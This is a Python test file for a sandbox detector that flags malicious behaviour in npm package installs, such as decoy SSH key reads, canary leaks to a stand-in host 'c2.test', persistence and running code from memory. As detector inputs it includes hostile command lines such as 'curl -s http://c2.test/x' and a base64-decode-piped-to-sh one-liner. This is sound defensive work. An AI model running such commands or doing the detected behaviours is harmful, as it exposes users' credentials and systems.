"""Each rule of the family: what it sees, and what comes near."""

import pytest

from lazaretto.detect.behaviour import Behaviour, is_host
from lazaretto.detect.engine import run_rule
from lazaretto.detect.rules.behaviour.canary_leaves import RULE as CANARY_LEAVES
from lazaretto.detect.rules.behaviour.decoy_read import RULE as DECOY_READ
from lazaretto.detect.rules.behaviour.forbidden_call import RULE as FORBIDDEN_CALL
from lazaretto.detect.rules.behaviour.install_connects import RULE as INSTALL_CONNECTS
from lazaretto.detect.rules.behaviour.persists import RULE as PERSISTS
from lazaretto.detect.rules.behaviour.runs_from_memory import RULE as RUNS_FROM_MEMORY
from lazaretto.detect.rules.behaviour.script_runs_inline import RULE as SCRIPT_RUNS_INLINE
from lazaretto.detect.rules.behaviour.secrets_then_connects import RULE as SECRETS_THEN_CONNECTS
from lazaretto.detect.rules.behaviour.writes_harmful_code import RULE as WRITES_HARMFUL_CODE
from lazaretto.model.behaviour import Action, Event, Program, Record
from lazaretto.model.finding import Phase

HOME = "/home/dev"
KEY = f"{HOME}/.ssh/id_ed25519"
GRAPH = ("npm:graph-x@2.2.9", "postinstall")


def seen(rule, *events, argv=("node", "x.js"), package=("", ""), phase=Phase.INSTALL, registries=frozenset()):
    programs = (
        Program(10, -1, "/bin/sh", ("sh", "-c", "npm ci"), f"{HOME}/work/p", 0.0),
        Program(11, 0, f"/usr/bin/{argv[0]}", argv, f"{HOME}/work/p", 0.1, *package),
    )
    made = tuple(
        Event(0.2 + at, "calls", action, 1, target, detail, package[0])
        for at, (action, target, detail) in enumerate((*event, "")[:3] for event in events)
    )
    record = Record(phase, programs, made, frozenset({KEY, f"{HOME}/.npmrc"}), f"{HOME}/work/p", HOME)
    result = run_rule(rule, Behaviour(record, registries), "p")
    assert result.gaps == ()
    return [(one.severity.name, one.confidence.name, one.phase.value, one.message.english()) for one in result.findings]


def test_a_decoy_is_read():
    event = (Action.READ, KEY)
    text = "npm:graph-x@2.2.9 postinstall -> sh -> node read the decoy /home/dev/.ssh/id_ed25519"
    assert seen(DECOY_READ, event, event, package=GRAPH) == [("HIGH", "HIGH", "install", text)]


@pytest.mark.parametrize("path", [f"{HOME}/.npmrc", "/usr/lib/x"])
def test_what_clients_read_by_themselves_and_what_is_no_decoy(path):
    assert seen(DECOY_READ, (Action.READ, path)) == []


@pytest.mark.parametrize(("path", "told"), [(KEY, True), (f"{HOME}/.netrc", False), (f"{HOME}/.npmrc", False)])
def test_what_clients_read_before_they_connect_is_no_secret_taken(path, told):
    """pip opens .netrc before every request."""
    events = ((Action.READ, path), (Action.CONNECT, "c2.test:443"))
    assert bool(seen(SECRETS_THEN_CONNECTS, *events)) is told


def test_a_canary_leaves():
    text = "sh -> node sent the content of a decoy, .ssh/id_ed25519 (hex), to c2.test:80"
    event = (Action.CANARY, "c2.test:80", ".ssh/id_ed25519 (hex)")
    assert seen(CANARY_LEAVES, event) == [("CRITICAL", "HIGH", "install", text)]
    assert seen(CANARY_LEAVES, (Action.REQUEST, "c2.test:80")) == []


def test_an_installation_connects():
    event = (Action.CONNECT, "c2.test:443")
    text = "npm:graph-x@2.2.9 postinstall -> sh -> node connected to c2.test:443 during the installation"
    assert seen(INSTALL_CONNECTS, event, package=GRAPH) == [("MEDIUM", "MEDIUM", "install", text)]
    assert [one[0] for one in seen(INSTALL_CONNECTS, event)] == ["LOW"]


@pytest.mark.parametrize(
    ("asked", "severity"),
    [
        (
            "https GET /somebody/node-graph-x/releases/download/v2.2.9/graph-x-linux-x64.tar.gz HTTP/1.1 143 bytes",
            "LOW",
        ),
        ("https GET /download/release/v20.20.2/node-v20.20.2-headers.tar.gz HTTP/1.1 150 bytes", "LOW"),
        ("https GET /somebody/else/releases/download/v2.2.9/x.tar.gz HTTP/1.1 143 bytes", "MEDIUM"),
        ("https GET /somebody/graph-x/releases/download/v2.2.9/x.tar.gz?d=aGVsbG8 HTTP/1.1 143 bytes", "MEDIUM"),
        ("https GET /somebody/graph-x/releases/download/v2.2.9/x.tar.gz HTTP/1.1 9000 bytes", "MEDIUM"),
        ("https POST /somebody/graph-x/releases/download/v2.2.9/x.tar.gz HTTP/1.1 143 bytes", "MEDIUM"),
        ("http GET /somebody/graph-x/releases/download/v2.2.9/x.tar.gz HTTP/1.1 143 bytes", "MEDIUM"),
    ],
)
def test_ready_made_builds_and_headers_of_node(asked, severity):
    host = "nodejs.org:443" if "headers" in asked else "github.com:443"
    events = ((Action.CONNECT, host), (Action.REQUEST, host, asked))
    assert [one[0] for one in seen(INSTALL_CONNECTS, *events, package=GRAPH)] == [severity]
    other = ((Action.CONNECT, "c2.test:443"), (Action.REQUEST, "c2.test:443", asked))
    assert [one[0] for one in seen(INSTALL_CONNECTS, *other, package=GRAPH)] == ["MEDIUM"]


@pytest.mark.parametrize("target", ["registry.example.test:443", "unix:/tmp/x", "127.0.0.1:80", "192.0.2.1:53"])
def test_registries_sockets_and_this_machine_are_no_strangers(target):
    assert seen(INSTALL_CONNECTS, (Action.CONNECT, target), registries=frozenset({"registry.example.test"})) == []


def test_a_running_program_may_connect():
    assert seen(INSTALL_CONNECTS, (Action.CONNECT, "c2.test:443"), phase=Phase.RUN) == []


@pytest.mark.parametrize(
    ("argv", "told"),
    [
        (("curl", "-s", "http://c2.test/x"), True),
        (("node", "-e", "x" * 200), True),
        (("node", "-e", "process.version"), False),
        (("sh", "-c", "echo dHJ1ZQ== | base64 -d | sh"), True),
        (("sh", "-c", "node build.js"), False),
    ],
)
def test_a_script_runs_inline(argv, told):
    assert bool(seen(SCRIPT_RUNS_INLINE, argv=argv, package=GRAPH)) is told
    assert seen(SCRIPT_RUNS_INLINE, argv=argv) == []


@pytest.mark.parametrize(
    ("path", "severity"),
    [
        (f"{HOME}/.bashrc", ["HIGH"]),
        (f"{HOME}/work/p/.git/hooks/pre-commit", ["MEDIUM"]),
        (f"{HOME}/work/p/src/.bashrc", []),
        (f"{HOME}/.cache/x", []),
    ],
)
def test_what_starts_by_itself_later(path, severity):
    assert [one[0] for one in seen(PERSISTS, (Action.WRITE, path))] == severity


def test_a_program_from_memory():
    file, run = (Action.MEMORY_FILE, "x"), (Action.EXEC, "/proc/self/fd/3")
    assert seen(RUNS_FROM_MEMORY, file, run) == [("HIGH", "HIGH", "install", "sh -> node ran a program from memory")]
    assert seen(RUNS_FROM_MEMORY, run) == []


def test_a_forbidden_call():
    text = "sh -> node tried the system call ptrace, which was refused"
    assert seen(FORBIDDEN_CALL, (Action.FORBIDDEN, "ptrace")) == [("MEDIUM", "MEDIUM", "install", text)]
    assert seen(FORBIDDEN_CALL, (Action.FORBIDDEN, "io_uring_setup")) == []


def test_harmful_code_is_brought_in():
    programs = (
        Program(10, -1, "/bin/sh", ("sh",), HOME, 0.0, *GRAPH),
        Program(11, 0, "/usr/bin/node", ("node", "-e", "x"), HOME, 0.1, *GRAPH),
    )
    events = (
        Event(0.2, "calls", Action.READ, 0, "/tmp/x.js"),
        Event(0.3, "calls", Action.WRITE, 1, "/tmp/x.js"),
        Event(0.4, "calls", Action.EXEC, 1, "/proc/self/fd/3"),
    )
    harmful = (
        ("/argument/1-node.js", "js/remote-code-executed"),
        ("/nowhere", "py/c"),
        ("/proc/self/fd/3~4", "bin/a"),
        ("/tmp/x.js", "js/a"),
        ("/tmp/x.js", "js/b"),
    )
    record = Record(Phase.INSTALL, programs, events, harmful=harmful)
    result = run_rule(WRITES_HARMFUL_CODE, Behaviour(record), "p")
    who = "npm:graph-x@2.2.9 postinstall -> sh -> node brought"
    assert [one.message.english() for one in result.findings] == [
        f"{who} /argument/1-node.js in, and that code is harmful: js/remote-code-executed",
        "? brought /nowhere in, and that code is harmful: py/c",
        f"{who} /proc/self/fd/3~4 in, and that code is harmful: bin/a",
        f"{who} /tmp/x.js in, and that code is harmful: js/a, js/b",
    ]
    assert seen(WRITES_HARMFUL_CODE, (Action.WRITE, "/tmp/x.js")) == []


def test_hosts():
    assert is_host("c2.test:80")
    assert is_host("[2001:db8::1]:80")
    assert not is_host("[::1]:80")
